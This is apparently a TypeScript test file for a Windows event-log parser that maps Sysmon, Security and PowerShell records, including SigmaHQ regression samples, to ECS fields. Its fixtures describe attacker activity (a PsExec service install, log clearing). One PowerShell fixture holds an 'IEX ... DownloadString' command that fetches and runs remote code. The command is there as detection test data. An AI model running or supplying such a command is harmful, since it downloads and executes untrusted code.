import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { sharedData } from '../../../testkit/src/shared-data.ts';
import { parseRecord } from '../parse-record.ts';
import { splitRecords } from '../split-records.ts';
import { readField } from '../ecs/set-field.ts';

const receivedAt = Date.parse('2026-01-01T00:00:00Z');
const root = sharedData('sigma', 'regression');
const cases = readFileSync(join(root, 'cases.jsonl'), 'utf8')
  .split('\n')
  .filter((l) => l.trim() !== '')
  .map((l) => JSON.parse(l) as { events_path: string; event_count: number });

test('every SigmaHQ regression event (evtx-rs shape, concatenated pretty JSON) parses', () => {
  let total = 0;
  for (const c of cases) {
    const records = splitRecords(readFileSync(join(root, c.events_path), 'utf8'));
    assert.equal(records.length, c.event_count, c.events_path);
    for (const r of records) {
      const e = parseRecord(r, { receivedAt });
      total++;
      assert.equal(e.parse_error, undefined, `${c.events_path}: ${e.parse_error ?? ''}`);
      assert.match(String(readField(e, 'event.dataset')), /^windows\./);
      assert.equal(typeof readField(e, 'event.code'), 'string');
      assert.equal(typeof readField(e, 'host.name'), 'string');
      // System fields exposed beside the flattened EventData.
      for (const k of ['EventID', 'Channel', 'Computer', 'Provider_Name'])
        assert.ok(e.raw && k in e.raw, `${k} in raw`);
    }
  }
  assert.equal(total, 182);
});

test('evtx-rs Sysmon 1: EventData flattened to raw, ECS process fields, SystemTime as @timestamp', () => {
  const c = cases.find((x) => x.events_path.includes('0022869c-49f7-4ff2-ba03-85ac42ddac58'));
  assert.ok(c);
  const [record] = splitRecords(readFileSync(join(root, c.events_path), 'utf8'));
  assert.ok(record);
  const e = parseRecord(record, { receivedAt });
  assert.equal(e.raw?.['EventID'], 1);
  assert.equal(e.raw?.['Image'], 'C:\\Windows\\System32\\reg.exe');
  assert.equal(e.raw?.['Provider_Name'], 'Microsoft-Windows-Sysmon');
  assert.equal(readField(e, 'event.code'), '1');
  assert.equal(readField(e, 'process.name'), 'reg.exe');
  assert.match(String(readField(e, 'process.command_line')), /CurrentBuildNumber/);
  assert.equal(readField(e, 'process.parent.name'), 'cmd.exe');
  assert.equal(readField(e, 'user.name'), 'Administrator');
  assert.equal(readField(e, 'host.name'), 'ar-win-dc.attackrange.local');
  assert.match(e['@timestamp'], /^2025-10-25T13:44:33\.\d{3}Z$/);
});

test('evtx-rs EventID with Qualifiers attributes and UserData are handled', () => {
  const e = parseRecord(
    {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Service Control Manager' } },
          EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 7045 },
          Channel: 'System',
          Computer: 'srv01',
          TimeCreated: { '#attributes': { SystemTime: '2024-05-01T10:00:00.123456Z' } },
        },
        EventData: {
          ServiceName: 'PSEXESVC',
          ImagePath: '%SystemRoot%\\PSEXESVC.exe',
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        },
      },
    },
    { receivedAt },
  );
  assert.equal(e.parse_error, undefined);
  assert.equal(readField(e, 'event.code'), '7045');
  assert.equal(readField(e, 'event.dataset'), 'windows.system');
  assert.equal(readField(e, 'event.action'), 'service-installed');
  assert.equal(readField(e, 'service.name'), 'PSEXESVC');
  assert.equal(e['@timestamp'], '2024-05-01T10:00:00.123Z');
  const cleared = parseRecord(
    {
      Event: {
        System: {
          EventID: 1102,
          Channel: 'Security',
          Computer: 'dc1',
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Eventlog' } },
        },
        UserData: { LogFileCleared: { SubjectUserName: 'eve', SubjectDomainName: 'CORP' } },
      },
    },
    { receivedAt },
  );
  assert.equal(readField(cleared, 'event.action'), 'audit-log-cleared');
  assert.equal(readField(cleared, 'user.name'), 'eve');
  assert.equal(cleared.raw?.['SubjectUserName'], 'eve');
});

test('a Windows object without EventID keeps the document with a parse error', () => {
  const e = parseRecord({ Event: { System: { Channel: 'Security' } } }, { receivedAt, format: 'windows' });
  assert.equal(e.parse_error, 'windows: Event.System.EventID is missing');
  assert.equal(e['@timestamp'], new Date(receivedAt).toISOString());
  assert.ok(e.raw);
});

test('flat Security 4720 and PowerShell 4104 (as NXLog/OTRF would ship them)', () => {
  const created = parseRecord(
    {
      EventID: 4720,
      Channel: 'Security',
      Hostname: 'DC01.corp.local',
      SourceName: 'Microsoft-Windows-Security-Auditing',
      TimeCreated: '2024-06-01 08:00:00.000',
      SubjectUserName: 'admin',
      SubjectDomainName: 'CORP',
      TargetUserName: 'svc_backup',
      TargetDomainName: 'CORP',
      TargetSid: 'S-1-5-21-1-2-3-1120',
      EventType: 'AUDIT_SUCCESS',
    },
    { receivedAt },
  );
  assert.equal(readField(created, 'event.action'), 'added-user-account');
  assert.deepEqual(readField(created, 'event.category'), ['iam']);
  assert.deepEqual(readField(created, 'event.type'), ['user', 'creation']);
  assert.equal(readField(created, 'event.outcome'), 'success');
  assert.equal(readField(created, 'user.name'), 'admin');
  assert.equal(readField(created, 'user.target.name'), 'svc_backup');
  assert.equal(readField(created, 'user.target.id'), 'S-1-5-21-1-2-3-1120');
  assert.equal(created['@timestamp'], '2024-06-01T08:00:00.000Z');
  const script = parseRecord(
    {
      EventID: '4104',
      Channel: 'Microsoft-Windows-PowerShell/Operational',
      Hostname: 'WS1',
      ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
      ScriptBlockId: 'f4b1c2a0-0000-4000-8000-000000000001',
      MessageNumber: '1',
      MessageTotal: '1',
      Path: '',
    },
    { receivedAt },
  );
  assert.equal(readField(script, 'event.dataset'), 'windows.powershell');
  assert.equal(readField(script, 'event.code'), '4104');
  assert.equal(readField(script, 'event.action'), 'scriptblock-logged');
  assert.match(String(readField(script, 'powershell.file.script_block_text')), /DownloadString/);
  assert.equal(readField(script, 'powershell.total'), 1);
  assert.equal(script.raw?.['EventID'], '4104');
});
